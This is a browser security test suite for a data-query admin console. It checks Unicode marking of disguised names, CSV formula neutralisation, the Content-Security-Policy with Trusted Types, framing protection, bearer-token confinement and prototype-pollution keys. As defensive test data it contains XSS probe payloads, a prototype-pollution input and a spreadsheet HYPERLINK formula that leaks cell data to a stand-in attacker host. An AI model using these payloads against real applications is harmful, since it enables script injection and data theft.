"""The console under attack, in a real browser: text that hides or reorders characters is shown
marked, the CSV it makes cannot carry a spreadsheet formula, its Content-Security-Policy (with
Trusted Types) refuses inline code, HTML sinks and framing, and the bearer token stays out of
URLs, Referer headers, the console log and storage other than the tab's ``sessionStorage``."""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

import pytest
from aiohttp import web
from playwright.async_api import expect

pytestmark = pytest.mark.browser

RLO, ZWSP = "\u202e", "\u200b"

# Collects Content-Security-Policy violations from the first script on (an init script runs
# through the browser's debugging protocol, outside the page's policy).
WATCH = """window.__violations = [];
document.addEventListener('securitypolicyviolation', (ev) =>
  window.__violations.push(`${ev.violatedDirective} ${ev.blockedURI} ${ev.sample}`));"""

PROBE = """window.__probe = (() => {
  const tryIt = (fn) => { try { fn(); return 'allowed'; } catch (e) { return e.name; } };
  const main = document.getElementById('main');
  const out = {
    innerHTML: tryIt(() => { main.innerHTML = '<img src=x onerror="window.pwned = 1">'; }),
    insertAdjacentHTML: tryIt(() => main.insertAdjacentHTML('beforeend', '<b>x</b>')),
    documentWrite: tryIt(() => document.write('<b>x</b>')),
    eval: tryIt(() => eval('window.pwned = 1')),
    newFunction: tryIt(() => new Function('window.pwned = 1')()),
    scriptText: tryIt(() => { const s = document.createElement('script');
      s.textContent = 'window.pwned = 1'; document.head.append(s); }),
    handlerAttribute: tryIt(() => { const b = document.createElement('button');
      b.setAttribute('onclick', 'window.pwned = 1'); document.body.append(b); b.click(); }),
    javascriptUrl: tryIt(() => { const a = document.createElement('a');
      a.href = 'javascript:window.pwned = 1'; document.body.append(a); a.click(); }),
  };
  const d = document.createElement('div');
  d.setAttribute('style', 'color: rgb(255, 0, 0)');
  document.body.append(d);
  out.inlineStyle = getComputedStyle(d).color;
  out.pwned = window.pwned ?? null;
  return out;
})();
"""


async def test_names_that_hide_or_reorder_characters_are_shown_marked(console: Any) -> None:
    """A subject "‮ecila" reads "alice" and an organisation "Acme​" reads "Acme": the approving
    admin sees ⟨U+202E⟩ and ⟨U+200B⟩ instead, in the licence list and the proposal target."""
    c = await console()
    await c.gw.licence(f"{RLO}ecila", organization=f"Acme{ZWSP}", id="lic_disguised")
    asked = await c.gw.query("SELECT COUNT(*) AS n FROM visits", sub=f"{RLO}ecila")
    assert asked.status == 200, await asked.text()
    admin = c.gw.auth("stella", ["admin"])
    org = quote(f"Acme{ZWSP}", safe="")
    suspended = await c.gw.client.post(f"/v1/admin/organisations/{org}/suspend",
                                       json={"reason": "INC-7"}, headers=admin)  # fmt: skip
    assert suspended.status == 200, await suspended.text()
    proposed = await c.gw.client.post(f"/v1/admin/organisations/{org}/reactivate",
                                      json={"reason": "INC-7 closed"}, headers=admin)  # fmt: skip
    assert proposed.status == 202, await proposed.text()

    page = await c.open_as("omar", ["admin"])
    row = page.locator("#licence-list tbody tr").filter(has_text="lic_disguised")
    await expect(row.locator("td").nth(1)).to_have_text("⟨U+202E⟩ecila")
    await expect(row.locator("td").nth(2)).to_have_text("Acme⟨U+200B⟩")
    await page.get_by_role("tab", name="Proposals").click()
    target = page.locator("#proposal-list tbody tr").first.locator("td").nth(2)
    await expect(target).to_have_text("Acme⟨U+200B⟩")
    # the approval dialog names the proposal's kind and target, marked the same way
    await page.locator("#proposal-list").get_by_role("button", name="Approve").click()
    await expect(page.get_by_role("dialog").get_by_role("heading")).to_contain_text(
        "organisation.reactivate Acme⟨U+200B⟩"
    )
    # no text node anywhere on the page still holds one of them
    hidden = await page.evaluate(
        """() => { const w = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
          const out = []; while (w.nextNode()) if (/[\\u202e\\u200b]/.test(w.currentNode.data))
          out.push(w.currentNode.data); return out; }"""
    )
    assert hidden == []
    # the auditor sees the same subject marked as an actor in the events, and the holder of
    # such a token sees it marked as the signed-in name
    page = await c.open_as(f"{RLO}ecila", ["auditor"])
    await expect(page.locator("#who")).to_contain_text("⟨U+202E⟩ecila · auditor")
    actor = page.locator("#events tbody tr").filter(has_text="query").locator("td").nth(2)
    await expect(actor).to_have_text("⟨U+202E⟩ecila")


async def test_the_csv_download_cannot_carry_a_formula(console: Any) -> None:
    c = await console()
    await c.gw.licence("alice")
    page = await c.open_as("alice", ["researcher"])
    formula = '=HYPERLINK("http://evil.example/?"&A2,"ok")'
    alias = formula.replace('"', '""')
    sql = f'SELECT region, COUNT(*) AS "{alias}" FROM visits GROUP BY region'  # noqa: S608
    await page.get_by_label("SQL").fill(sql)
    await page.locator("#run").click()
    await expect(page.locator("#charge")).to_contain_text("Charged")
    async with page.expect_download() as info:
        await page.locator("#csv").click()
    header = (await (await info.value).path()).read_text().splitlines()[0]
    quoted = formula.replace('"', '""')
    assert header == f'region,"\'{quoted}","\'{quoted}_ci95"'
    # text cells that start a formula get an apostrophe; numbers (a noisy count may be
    # negative) are written as they are
    cells = await page.evaluate(
        """async () => (await import('/console/ui.js')).toCsv(['v'],
          [[-2], ['-2'], ['+1'], ['@SUM(A1)'], ['\\tx'], ['plain'], [1.5]])"""
    )
    assert cells.split("\r\n")[1:-1] == ["-2", "'-2", "'+1", "'@SUM(A1)", "'\tx", "plain", "1.5"]


async def test_the_policy_refuses_inline_code_html_sinks_and_framing(
    console: Any, aiohttp_server: Any
) -> None:
    c = await console()
    await c.gw.licence("alice")
    page = await c.new_page()
    await page.add_init_script(WATCH)
    token = c.gw.tokens("root", ["researcher", "admin", "auditor"])
    await page.goto(f"{c.base}/console#token={token}")
    await expect(page.locator("#who")).to_contain_text("root")
    # every view and tab of every role renders without a single violation: no page needs
    # 'unsafe-inline' or 'unsafe-eval'
    for role in ("Researcher", "Steward", "Auditor"):
        await page.locator("#nav button", has_text=role).click()
        for tab in await page.get_by_role("tab").all():
            await tab.click()
            await page.wait_for_load_state("networkidle")
    await expect(page.get_by_role("tab", name="Attention")).to_have_attribute(
        "aria-selected", "true"
    )
    assert await page.evaluate("window.__violations") == []

    # the attempts run as the page's own script (prepended to app.js, served from the
    # gateway with its real headers): code evaluated through the debugging protocol would be
    # exempt from the policy's eval rule
    async def with_probe(route: Any) -> None:
        original = await route.fetch()
        await route.fulfill(response=original, body=PROBE + await original.text())

    probe = await page.context.new_page()
    await probe.route("**/console/app.js", with_probe)
    await probe.add_init_script(WATCH)
    await probe.goto(f"{c.base}/console#token={token}")
    await expect(probe.locator("#who")).to_contain_text("root")
    attempts = await probe.evaluate("window.__probe")
    # Trusted Types with no policy: HTML and script sinks throw before anything is parsed
    for sink in ("innerHTML", "insertAdjacentHTML", "documentWrite", "scriptText"):
        assert attempts[sink] == "TypeError", (sink, attempts)
    assert attempts["eval"] == "EvalError" and attempts["newFunction"] == "EvalError"
    assert attempts["inlineStyle"] != "rgb(255, 0, 0)"
    await probe.wait_for_timeout(200)  # a javascript: navigation would run after the click
    assert await probe.evaluate("window.pwned ?? null") is None
    violations = await probe.evaluate("window.__violations")
    # each attempt was reported as a violation: Trusted Types stop the sinks, eval, the
    # handler attribute and the script text before script-src is consulted; script-src stops
    # the javascript: URL and style-src the style attribute
    assert len([v for v in violations if v.startswith("require-trusted-types-for")]) == 7
    assert any(v.startswith("script-src") for v in violations), violations
    assert any(v.startswith("style-src") for v in violations), violations

    # a page on another origin (a second server, another port) that frames the console gets
    # nothing: frame-ancestors 'none' and X-Frame-Options
    async def framing(request: web.Request) -> web.Response:
        html = f'<iframe id="f" src="{c.base}/console" width="800" height="600"></iframe>'
        return web.Response(text=html, content_type="text/html")

    other = web.Application()
    other.router.add_get("/", framing)
    server = await aiohttp_server(other)
    framed = await page.context.new_page()
    await framed.goto(str(server.make_url("/")))
    await framed.wait_for_load_state("networkidle")
    assert len(framed.frames) == 2
    assert await framed.frame_locator("#f").locator("#main").count() == 0


async def test_the_token_stays_in_the_tab(console: Any) -> None:
    """No request URL and no log line carries the token, no request sends a Referer, and the
    token lives in ``sessionStorage`` alone (no cookie, no ``localStorage``)."""
    c = await console()
    await c.gw.licence("alice")
    token = c.gw.tokens("alice", ["researcher", "auditor"])
    page = await c.new_page()
    requests: list[Any] = []
    logs: list[str] = []
    page.on("request", lambda req: requests.append(req))
    page.on("console", lambda msg: logs.append(msg.text))
    await page.goto(f"{c.base}/console#token={token}")
    await expect(page.locator("#estimate")).to_contain_text("Cost")
    await page.locator("#run").click()
    await expect(page.locator("#charge")).to_contain_text("Charged")
    await page.locator("#nav button", has_text="Auditor").click()
    await expect(page.locator("#events tbody tr").first).to_be_visible()
    assert token not in page.url
    assert len(requests) > 5
    for req in requests:
        assert token not in req.url, req.url
        headers = await req.all_headers()
        assert "referer" not in headers, (req.url, headers.get("referer"))
        assert "cookie" not in headers
    assert not any(token in line for line in logs)
    stored = await page.evaluate(
        "() => [localStorage.length, document.cookie, sessionStorage.getItem('enclave.token')]"
    )
    assert stored == [0, "", token]
    # a fragment that is not a well-formed token (a link mangled in transit) is dropped too
    mangled = await c.new_page()
    await mangled.goto(f"{c.base}/console#token={token}%20and%20more")
    await expect(mangled.get_by_role("heading", name="Sign in")).to_be_visible()
    assert mangled.url == f"{c.base}/console"
    api_calls = [r for r in requests if "/v1/" in r.url]
    assert api_calls
    for req in api_calls:  # the token travels in the Authorization header alone
        assert (await req.all_headers()).get("authorization") == f"Bearer {token}"


async def test_names_that_are_object_members_are_plain_keys(console: Any) -> None:
    """A subject "toString", a dataset asked for as "__proto__", a column "constructor": the
    auditor's Summary and Attention tabs still work and nothing reaches Object.prototype
    (before, one refusal for the subject "toString" broke the refusal-spike table)."""
    c = await console()
    await c.gw.licence("alice")
    await c.gw.licence("toString")
    for _ in range(5):  # refused: over the tier's budget
        refused = await c.gw.query("SELECT COUNT(*) AS n FROM visits", 50.0, sub="toString")
        assert refused.status == 403, await refused.text()
    unknown = await c.gw.query("SELECT COUNT(*) AS n FROM visits", dataset="__proto__")
    assert unknown.status == 404, await unknown.text()
    page = await c.open_as("ava", ["auditor"])
    await page.get_by_role("tab", name="Summary").click()
    per_dataset = page.get_by_role("table", name="Per dataset")
    await expect(per_dataset.get_by_role("row").filter(has_text="__proto__")).to_have_count(1)
    await page.get_by_role("tab", name="Attention").click()
    spikes = page.get_by_role("table", name="Refusal spikes (5 or more refusals within one hour)")
    await expect(spikes.get_by_role("row").filter(has_text="toString")).to_contain_text("5")
    assert await page.locator("[role=alert]").count() == 0
    clean = await page.evaluate(
        """async () => {
          const { unflatten } = await import('/console/policy.js');
          const body = unflatten([['columns.__proto__.type', 'int'],
            ['columns.constructor.type', 'category'], ['name', 'visits']]);
          return [JSON.stringify(body), ['eps', 'releases', 'type'].filter((k) => k in {})];
        }"""
    )
    assert clean == [
        '{"columns":{"__proto__":{"type":"int"},"constructor":{"type":"category"}},'
        '"name":"visits"}',
        [],
    ]
